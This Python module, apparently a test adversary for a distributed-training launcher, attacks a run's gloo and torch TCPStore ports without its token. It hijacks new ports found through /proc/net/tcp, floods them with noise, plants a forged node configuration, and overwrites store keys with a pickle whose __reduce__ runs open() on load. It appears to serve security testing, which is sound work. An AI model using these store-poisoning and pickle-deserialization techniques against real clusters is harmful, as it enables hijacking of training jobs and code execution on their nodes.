"""Attacks a run's ports without its token; run as a program, or called by tests.

``stranger.py rob ADDRESS SECONDS`` connects to each port that opens and sends what gloo expects;
``stranger.py noise ADDRESS COUNT`` sends noise to them; ``stranger.py frozen HOST PORT YAML``
stores a configuration (its bytes in hexadecimal) under the key where node 1 of 2 looks for that of
node 0; ``stranger.py deface ADDRESS SECONDS FILE`` overwrites every key of each store that opens
with a pickle that creates a file.
"""

from __future__ import annotations

import json
import pickle
import random
import socket
import struct
import sys
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any


class Bomb:
    """Creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = str(path)

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return open, (self._path, "w")


def bomb(path: Path) -> bytes:
    """Return a pickle that creates a file when it is loaded."""
    return pickle.dumps(Bomb(path))


def listening(address: str) -> set[int]:
    """Return the open ports of an address, which every user of the node can list."""
    digits = "".join(f"{int(part):02X}" for part in reversed(address.split(".")))
    rows = [row.split() for row in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {int(row[1][9:], 16) for row in rows if row[3] == "0A" and row[1].startswith(digits)}


def _new_ports(address: str, seconds: float) -> Any:
    open_ports, end = listening(address), time.monotonic() + seconds
    print("ready", flush=True)
    while time.monotonic() < end:
        opened = listening(address) - open_ports
        open_ports |= opened
        yield from opened
        time.sleep(0.001)


def rob(address: str, seconds: float) -> None:
    """Connect to each new port as the first ranks that gloo expects."""
    sockets = []
    for port in _new_ports(address, seconds):
        for number in range(4):
            with suppress(OSError):
                sockets.append(socket.create_connection((address, port), timeout=1))
                sockets[-1].sendall(struct.pack("<q", number))


def noise(address: str, count: int) -> None:
    """Send noise to each new port until ``count`` connections were made."""
    chance, sockets, num_sockets = random.Random(0), [], 0
    for port in _new_ports(address, 60):
        for _ in range(count // 4):
            with suppress(OSError):
                connection = socket.create_connection((address, port), timeout=1)
                num_sockets += 1
                if num_sockets % 3:
                    connection.sendall(chance.randbytes(chance.randint(1, 300)))
                if num_sockets % 50 == 0:
                    sockets.append(connection)
                else:
                    connection.close()
        if num_sockets >= count:
            break
    print(num_sockets, flush=True)


def frozen(host: str, port: int, config: str) -> None:
    """Store a configuration where node 1 looks for that of node 0, before node 0 does."""
    import torch.distributed as dist

    store: Any = dist.TCPStore(
        host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
    )
    while not (begun := [key for key in store.list_keys() if key.endswith("joined/0")]):
        time.sleep(0.05)
    value = {"config": config, "attempts": 0, "restarts": 0}
    key = begun[0].replace("joined/0", "frozen")
    joined = json.loads(store.get(begun[0])[64:])
    message = {**joined, "name": "frozen", "content": {"nonces": ["", ""], "value": value}}
    store.set(key, "0" * 64 + json.dumps(message))
    print(key, flush=True)


def deface(address: str, seconds: float, victim: Path) -> None:
    """Overwrite every key of each store that opens, repeatedly for a moment."""
    import torch.distributed as dist

    payload = bomb(victim)
    for port in _new_ports(address, seconds):
        end = time.monotonic() + 3
        with suppress(RuntimeError):  # not a store, or closed
            store: Any = dist.TCPStore(
                address,
                port,
                is_master=False,
                wait_for_workers=False,
                timeout=timedelta(seconds=1),
            )
            while time.monotonic() < end:
                for key in store.list_keys():
                    store.set(key, payload)
                time.sleep(0.01)


if __name__ == "__main__":
    kind, where, what, *rest = sys.argv[1:]
    if kind == "frozen":
        frozen(where, int(what), bytes.fromhex(rest[0]).decode())
    elif kind == "deface":
        deface(where, float(what), Path(rest[0]))
    else:
        {"rob": rob, "noise": noise}[kind](where, int(what))
